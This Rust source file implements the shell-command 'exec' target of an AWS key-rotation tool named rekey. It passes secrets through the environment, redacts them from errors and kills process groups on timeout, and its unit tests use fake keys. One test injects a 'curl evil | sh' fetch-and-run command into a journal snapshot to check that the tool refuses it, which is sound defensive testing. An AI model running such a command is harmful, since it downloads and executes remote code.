//! `exec:<command>`: a command of the user's that delivers the key where rekey has no adapter for
//! (a vault, a config-management push, a device).
//!
//! `apply` runs `sh -c <command>` with the new key in its environment (`AWS_ACCESS_KEY_ID`,
//! `AWS_SECRET_ACCESS_KEY`), `REKEY_ACTION=apply` and `REKEY_OLD_ACCESS_KEY_ID`. The secret is never
//! on a command line, where every user of the machine could read it. Its exit status is the verdict.
//!
//! Rollback runs the `--restart-cmd` given after the target, with `REKEY_ACTION=rollback`,
//! `REKEY_OLD_ACCESS_KEY_ID` and `REKEY_NEW_ACCESS_KEY_ID` and no secret: rekey never had the old
//! secret, so the command must put back what it keeps itself. Without one, a rollback after the
//! command ran cannot restore anything and says so; the orchestrator then keeps the new key.
//!
//! What the commands must tolerate, since rekey cannot see what they did:
//! - `apply` runs once per rotation (`rekey resume` never re-runs it: it no longer has the secret),
//!   but it may be killed halfway by the timeout or a crash.
//! - the rollback command may run more than once (rollback is retried by `rekey resume`), and after
//!   a crash it runs even if `apply` never did: a new process cannot tell. It must be idempotent.
//!
//! Both commands run without rekey's own AWS credentials in their environment (they would act as
//! the rotating admin), in a process group of their own that is killed whole when they outlive
//! the timeout or rekey stops waiting for them (see [`run_sh`]).
//!
//! The commands run are this target's own, from the command line that built it: a snapshot read
//! back from a journal that names other commands is refused, since a journal is data, not a
//! place to take commands from.
//!
//! The target holds no key rekey can read (`current_key_id` is `None`).

use std::ffi::OsStr;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::Duration;

use async_trait::async_trait;
use serde::{Deserialize, Serialize};

use crate::error::redact;
use crate::file::{RunError, run_sh};
use crate::{ErrorKind, NewKey, Options, Preflight, Snapshot, Target, TargetError, TargetSpec};

pub struct ExecTarget {
    name: String,
    command: String,
    rollback_cmd: Option<String>,
    timeout: Duration,
    old_key_id: Option<String>,
    new_key_id: Option<String>,
    /// What this process did, which the journalled snapshot cannot say.
    local: Mutex<Local>,
}

#[derive(Default)]
struct Local {
    snapshot_taken: bool,
    /// The key id `apply` was started with: from then on the command may have changed something.
    applied: Option<String>,
}

/// What the journal keeps: the commands and the old key id. The command text is the user's own and
/// holds no secret (the secret reaches the command through its environment).
#[derive(Debug, Clone, Serialize, Deserialize)]
struct ExecSnapshot {
    command: String,
    rollback_command: Option<String>,
    old_key_id: Option<String>,
}

impl ExecTarget {
    pub fn new(spec: &TargetSpec, _sdk: &aws_types::SdkConfig, options: &Options) -> Self {
        ExecTarget {
            name: spec.raw.clone(),
            command: spec.location.clone(),
            rollback_cmd: options.restart_cmd.clone(),
            timeout: options.restart_timeout,
            old_key_id: options.old_key_id.clone(),
            new_key_id: options.new_key_id.clone(),
            local: Mutex::new(Local::default()),
        }
    }

    /// The key ids the commands are told about, when they are not given through [`Options`].
    pub fn with_key_ids(mut self, old: Option<String>, new: Option<String>) -> Self {
        self.old_key_id = old;
        self.new_key_id = new;
        self
    }

    fn err(&self, kind: ErrorKind) -> TargetError {
        TargetError::new(&self.name, kind)
    }

    fn local(&self) -> std::sync::MutexGuard<'_, Local> {
        // The guarded data is two plain fields, valid whatever panicked while holding it.
        self.local.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// The snapshot, if it names this target's own commands.
    fn own_snapshot(&self, snapshot: &Snapshot) -> Result<ExecSnapshot, TargetError> {
        let snap: ExecSnapshot = snapshot.to_state(&self.name)?;
        if snap.command != self.command || snap.rollback_command != self.rollback_cmd {
            return Err(self.err(ErrorKind::Unusable(format!(
                "the journaled snapshot names the commands `{}` / `{}`, not this target's `{}` / `{}`; rekey runs \
                 only the commands given on its command line",
                snap.command,
                snap.rollback_command.as_deref().unwrap_or("(none)"),
                self.command,
                self.rollback_cmd.as_deref().unwrap_or("(none)"),
            ))));
        }
        Ok(snap)
    }

    async fn run(
        &self,
        what: &str,
        cmd: &str,
        env: &[(&str, &OsStr)],
        secret: Option<&str>,
    ) -> Result<(), TargetError> {
        match run_sh(cmd, env, self.timeout).await {
            Ok(()) => Ok(()),
            Err(RunError::Spawn(e)) => Err(self.err(ErrorKind::Consumers(format!("cannot start {what} `{cmd}`: {e}")))),
            Err(RunError::Wait(e)) => Err(self.err(ErrorKind::Consumers(format!("{what} `{cmd}` failed: {e}")))),
            Err(RunError::Timeout) => {
                Err(self.err(ErrorKind::Timeout { what: format!("{what} `{cmd}`"), waited: self.timeout }))
            }
            Err(RunError::Failed { status, last_stderr }) => {
                // A command that echoes its environment on failure must not put the secret in the report.
                let last = redact(&last_stderr, &secret.into_iter().collect::<Vec<_>>());
                Err(self.err(ErrorKind::Consumers(format!("{what} `{cmd}` exited with {status}: {last}"))))
            }
        }
    }
}

#[async_trait]
impl Target for ExecTarget {
    fn name(&self) -> &str {
        &self.name
    }

    async fn preflight(&self) -> Result<Preflight, TargetError> {
        let path = std::env::var_os("PATH").unwrap_or_default();
        let dirs: Vec<PathBuf> = std::env::split_paths(&path).collect();
        if find_program("sh", &dirs).is_none() {
            return Err(
                self.err(ErrorKind::Unusable("no `sh` on PATH: exec targets run their command with `sh -c`".into()))
            );
        }
        let mut pf = Preflight::default();
        pf.changes.push(format!(
            "run `{}` with the new key in its environment (AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY); \
             a non-zero exit fails the rotation",
            self.command
        ));
        for (what, cmd) in [("command", Some(&self.command)), ("rollback command", self.rollback_cmd.as_ref())] {
            if let Some(cmd) = cmd
                && let Some(problem) = program_problem(cmd, &dirs)
            {
                pf.warnings.push(format!("{what} `{cmd}`: {problem}"));
            }
        }
        match &self.rollback_cmd {
            Some(cmd) => pf.changes.push(format!("on rollback, run `{cmd}` (no secret; it must be idempotent)")),
            None => pf.warnings.push(format!(
                "no --restart-cmd after {}: if the rotation fails after `{}` ran, rekey cannot undo it, keeps the \
                 new key Active and exits 4",
                self.name, self.command
            )),
        }
        Ok(pf)
    }

    async fn snapshot(&self) -> Result<Snapshot, TargetError> {
        self.local().snapshot_taken = true;
        Ok(Snapshot::from_state(&ExecSnapshot {
            command: self.command.clone(),
            rollback_command: self.rollback_cmd.clone(),
            old_key_id: self.old_key_id.clone(),
        }))
    }

    async fn apply(&self, key: &NewKey, snapshot: &Snapshot) -> Result<(), TargetError> {
        let snap = self.own_snapshot(snapshot)?;
        self.local().applied = Some(key.access_key_id.clone());
        let old = snap.old_key_id.unwrap_or_default();
        let env = [
            ("AWS_ACCESS_KEY_ID", OsStr::new(&key.access_key_id)),
            ("AWS_SECRET_ACCESS_KEY", OsStr::new(key.secret())),
            ("REKEY_ACTION", OsStr::new("apply")),
            ("REKEY_OLD_ACCESS_KEY_ID", OsStr::new(&old)),
        ];
        self.run("command", &snap.command, &env, Some(key.secret())).await
    }

    async fn current_key_id(&self) -> Result<Option<String>, TargetError> {
        Ok(None)
    }

    async fn rollback(&self, snapshot: &Snapshot) -> Result<(), TargetError> {
        let snap = self.own_snapshot(snapshot)?;
        let (snapshot_taken, applied) = {
            let local = self.local();
            (local.snapshot_taken, local.applied.clone())
        };
        // In the process that took the snapshot we know whether the command ever started; a new
        // process (after a crash) cannot know, and must assume it did.
        if snapshot_taken && applied.is_none() {
            return Ok(());
        }
        let new = applied.or_else(|| self.new_key_id.clone());
        let old = snap.old_key_id.clone().unwrap_or_default();
        let Some(cmd) = self.rollback_cmd.as_deref() else {
            return Err(self.err(ErrorKind::Consumers(format!(
                "`{}` {} with the new key {} and there is no rollback command (--restart-cmd after the target): \
                 whatever it changed still holds the new key; put back {} by hand",
                snap.command,
                if snapshot_taken { "ran" } else { "may have run" },
                new.as_deref().unwrap_or("(unknown)"),
                if old.is_empty() { "the old key" } else { old.as_str() },
            ))));
        };
        let new = new.unwrap_or_default();
        let env = [
            ("REKEY_ACTION", OsStr::new("rollback")),
            ("REKEY_OLD_ACCESS_KEY_ID", OsStr::new(&old)),
            ("REKEY_NEW_ACCESS_KEY_ID", OsStr::new(&new)),
        ];
        self.run("rollback command", cmd, &env, None).await
    }
}

/// An executable file `name` in one of `dirs`.
fn find_program(name: &str, dirs: &[PathBuf]) -> Option<PathBuf> {
    dirs.iter().map(|d| d.join(name)).find(|p| is_executable(p))
}

fn is_executable(path: &Path) -> bool {
    path.metadata().is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
}

/// Shell words that are not programs to look up.
const SHELL_WORDS: &[&str] = &[
    "!", "{", "(", "[", ".", ":", "case", "cd", "command", "echo", "eval", "exec", "exit", "export", "false", "for",
    "if", "printf", "read", "set", "test", "true", "umask", "unset", "until", "while",
];

/// Why the command's program may not run, if it can tell. Only a warning: the shell resolves the
/// word at run time, maybe from a PATH the command sets itself.
fn program_problem(cmd: &str, dirs: &[PathBuf]) -> Option<String> {
    let word = cmd.split_whitespace().find(|w| !is_assignment(w))?;
    if SHELL_WORDS.contains(&word) || word.starts_with(['(', '{', '$', '`', '"', '\'']) {
        return None;
    }
    if word.contains('/') {
        return (!is_executable(Path::new(word))).then(|| format!("{word} is not an executable file"));
    }
    find_program(word, dirs).is_none().then(|| format!("{word} is not on PATH"))
}

/// `NAME=value` before a command sets its environment.
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && !name.starts_with(|c: char| c.is_ascii_digit())
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

#[cfg(test)]
mod tests {
    use std::fs;

    use secrecy::SecretString;

    use super::*;

    const OLD_ID: &str = "AKIAOLDOLDOLDOLD0001";
    const NEW_ID: &str = "AKIANEWNEWNEWNEW0002";
    const NEW_SECRET: &str = "nEw/SeCrEt+kEy0123456789abcdefghijklmnop";

    fn key() -> NewKey {
        NewKey::new(NEW_ID, SecretString::from(NEW_SECRET.to_string()))
    }

    fn target(cmd: &str, rollback: Option<String>, timeout: Duration) -> ExecTarget {
        let spec: TargetSpec = format!("exec:{cmd}").parse().expect("spec");
        let options = Options { restart_cmd: rollback, restart_timeout: timeout, ..Options::default() };
        ExecTarget::new(&spec, &aws_types::SdkConfig::builder().build(), &options)
            .with_key_ids(Some(OLD_ID.into()), None)
    }

    #[tokio::test]
    async fn the_secret_is_in_the_environment_not_on_the_command_line() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path().display();
        // `?x=1` stays part of the command: exec specs have no options.
        let cmd = format!(
            "printf '%s %s %s %s' \"$AWS_ACCESS_KEY_ID\" \"$AWS_SECRET_ACCESS_KEY\" \"$REKEY_ACTION\" \
             \"$REKEY_OLD_ACCESS_KEY_ID\" > {d}/env; tr '\\0' ' ' < /proc/$$/cmdline > {d}/cmdline; \
             printf %s \"${{AWS_SESSION_TOKEN:-none}}\" > {d}/token; read -r line; printf %s \"$?\" > {d}/stdin # ?x=1"
        );
        let t = target(&cmd, None, Duration::from_secs(10));
        let snap = t.snapshot().await.unwrap();
        t.apply(&key(), &snap).await.unwrap();
        assert_eq!(
            fs::read_to_string(dir.path().join("env")).unwrap(),
            format!("{NEW_ID} {NEW_SECRET} apply {OLD_ID}")
        );
        let cmdline = fs::read_to_string(dir.path().join("cmdline")).unwrap();
        assert!(cmdline.starts_with("sh -c ") && cmdline.contains("?x=1"), "{cmdline}");
        assert!(!cmdline.contains(NEW_SECRET), "{cmdline}");
        assert_eq!(fs::read_to_string(dir.path().join("token")).unwrap(), "none");
        // stdin is closed: `read` hits end of file at once instead of waiting.
        assert_eq!(fs::read_to_string(dir.path().join("stdin")).unwrap(), "1");
        let json = serde_json::to_string(&snap).unwrap();
        assert!(!json.contains(NEW_SECRET) && json.contains(OLD_ID), "{json}");
        assert_eq!(t.current_key_id().await.unwrap(), None);
    }

    #[tokio::test]
    async fn failure_and_timeout_are_errors_without_the_secret() {
        let t = target(
            "echo first >&2; echo \"bad key $AWS_SECRET_ACCESS_KEY\" >&2; exit 7",
            None,
            Duration::from_secs(10),
        );
        let snap = t.snapshot().await.unwrap();
        let e = t.apply(&key(), &snap).await.unwrap_err();
        let text = e.to_string();
        assert!(matches!(e.kind, ErrorKind::Consumers(_)), "{text}");
        assert!(text.contains("exit status: 7") && text.contains("bad key [redacted]"), "{text}");
        assert!(!text.contains(NEW_SECRET), "{text}");

        let t = target("sleep 5", None, Duration::from_millis(200));
        let snap = t.snapshot().await.unwrap();
        let started = std::time::Instant::now();
        let e = t.apply(&key(), &snap).await.unwrap_err();
        assert!(matches!(e.kind, ErrorKind::Timeout { .. }), "{e}");
        assert!(started.elapsed() < Duration::from_secs(3));
    }

    /// Whether `pid` is a live process (a zombie waiting to be reaped is not).
    fn alive(pid: &str) -> bool {
        std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .ok()
            .and_then(|stat| stat.rsplit_once(") ").map(|(_, rest)| !rest.starts_with('Z')))
            .unwrap_or(false)
    }

    /// Waits, briefly, for the background child the command wrote to `pidfile` to die.
    async fn dies(pidfile: &Path) -> bool {
        let pid = fs::read_to_string(pidfile).expect("the command started its child").trim().to_string();
        for _ in 0..50 {
            if !alive(&pid) {
                return true;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        false
    }

    #[tokio::test]
    async fn a_timeout_kills_what_the_command_started_too() {
        let dir = tempfile::tempdir().unwrap();
        let pidfile = dir.path().join("pid");
        // `sleep` is a child of `sh`: killing `sh` alone would leave it running for a minute.
        let cmd = format!("sleep 60 & echo $! > {}; wait", pidfile.display());
        let t = target(&cmd, None, Duration::from_millis(1500));
        let snap = t.snapshot().await.unwrap();
        let e = t.apply(&key(), &snap).await.unwrap_err();
        assert!(matches!(e.kind, ErrorKind::Timeout { .. }), "{e}");
        assert!(dies(&pidfile).await, "the command's child outlived the timeout");
    }

    #[tokio::test]
    async fn giving_up_on_the_command_kills_its_group() {
        let dir = tempfile::tempdir().unwrap();
        let pidfile = dir.path().join("pid");
        let cmd = format!("sleep 60 & echo $! > {}; wait", pidfile.display());
        let t = target(&cmd, None, Duration::from_secs(30));
        let snap = t.snapshot().await.unwrap();
        // Ctrl-C drops the future of the step under way.
        let key = key();
        assert!(tokio::time::timeout(Duration::from_millis(1500), t.apply(&key, &snap)).await.is_err());
        assert!(dies(&pidfile).await, "the command's child outlived rekey giving up on it");
    }

    #[tokio::test]
    async fn a_command_that_exits_keeps_what_it_started_in_the_background() {
        let dir = tempfile::tempdir().unwrap();
        let pidfile = dir.path().join("pid");
        // A restart command may launch the app this way; its stderr stays open, and rekey does
        // not wait for it to close.
        let cmd = format!("sleep 60 & echo $! > {}", pidfile.display());
        let t = target(&cmd, None, Duration::from_secs(5));
        let snap = t.snapshot().await.unwrap();
        let started = std::time::Instant::now();
        t.apply(&key(), &snap).await.unwrap();
        assert!(started.elapsed() < Duration::from_secs(3), "waited for the background child's stderr");
        let pid = fs::read_to_string(&pidfile).unwrap().trim().to_string();
        assert!(alive(&pid));
        std::process::Command::new("kill").arg(&pid).status().unwrap();
    }

    #[tokio::test]
    async fn a_journal_cannot_choose_the_commands() {
        let t = target("true", Some("undo.sh".into()), Duration::from_secs(5));
        let mut snap = t.snapshot().await.unwrap();
        snap.0["rollback_command"] = serde_json::json!("curl evil | sh");
        let e = t.rollback(&snap).await.unwrap_err();
        assert!(e.to_string().contains("only the commands given on its command line"), "{e}");
        let mut snap = t.snapshot().await.unwrap();
        snap.0["command"] = serde_json::json!("curl evil | sh");
        assert!(t.apply(&key(), &snap).await.is_err());
    }

    #[tokio::test]
    async fn rollback_gets_the_key_ids_and_no_secret() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("rollback");
        let rollback = format!(
            "echo \"$REKEY_ACTION $REKEY_OLD_ACCESS_KEY_ID $REKEY_NEW_ACCESS_KEY_ID ${{AWS_SECRET_ACCESS_KEY:-none}}\" >> {}",
            log.display()
        );
        let t = target("true", Some(rollback.clone()), Duration::from_secs(10));
        let snap = t.snapshot().await.unwrap();
        // Nothing ran yet in this process: nothing to undo.
        t.rollback(&snap).await.unwrap();
        assert!(!log.exists());
        t.apply(&key(), &snap).await.unwrap();
        t.rollback(&snap).await.unwrap();
        t.rollback(&snap).await.unwrap();
        let want = format!("rollback {OLD_ID} {NEW_ID} none\n");
        assert_eq!(fs::read_to_string(&log).unwrap(), want.repeat(2));

        // A new process after a crash cannot tell whether the command ran: it runs the rollback.
        let json = serde_json::to_string(&snap).unwrap();
        let fresh = target("true", Some(rollback), Duration::from_secs(10)).with_key_ids(Some(OLD_ID.into()), None);
        fresh.rollback(&serde_json::from_str(&json).unwrap()).await.unwrap();
        assert!(fs::read_to_string(&log).unwrap().ends_with(&format!("rollback {OLD_ID}  none\n")));

        let failing = target("true", Some("echo cannot >&2; exit 2".into()), Duration::from_secs(10));
        let snap = failing.snapshot().await.unwrap();
        failing.apply(&key(), &snap).await.unwrap();
        let e = failing.rollback(&snap).await.unwrap_err();
        assert!(e.to_string().contains("rollback command") && e.to_string().contains("cannot"), "{e}");
    }

    #[tokio::test]
    async fn without_a_rollback_command_rollback_says_what_is_left() {
        let t = target("true", None, Duration::from_secs(10));
        let snap = t.snapshot().await.unwrap();
        t.rollback(&snap).await.unwrap();
        t.apply(&key(), &snap).await.unwrap();
        let e = t.rollback(&snap).await.unwrap_err();
        let text = e.to_string();
        assert!(text.contains(NEW_ID) && text.contains(OLD_ID) && text.contains("by hand"), "{text}");
        assert!(!text.contains(NEW_SECRET));
        let fresh = target("true", None, Duration::from_secs(10));
        let e = fresh.rollback(&snap).await.unwrap_err();
        assert!(e.to_string().contains("may have run"), "{e}");
    }

    #[tokio::test]
    async fn preflight_checks_the_programs() {
        let pf = target("sh -c true", Some("true".into()), Duration::from_secs(1)).preflight().await.unwrap();
        assert!(pf.warnings.is_empty(), "{:?}", pf.warnings);
        assert_eq!(pf.current_key_id, None);
        let pf = target("FOO=1 no-such-program-rekey --x", None, Duration::from_secs(1)).preflight().await.unwrap();
        assert!(pf.warnings.iter().any(|w| w.contains("no-such-program-rekey is not on PATH")), "{:?}", pf.warnings);
        assert!(pf.warnings.iter().any(|w| w.contains("no --restart-cmd")), "{:?}", pf.warnings);
        let pf = target("/nonexistent/deploy.sh", None, Duration::from_secs(1)).preflight().await.unwrap();
        assert!(pf.warnings.iter().any(|w| w.contains("not an executable file")), "{:?}", pf.warnings);
    }
}
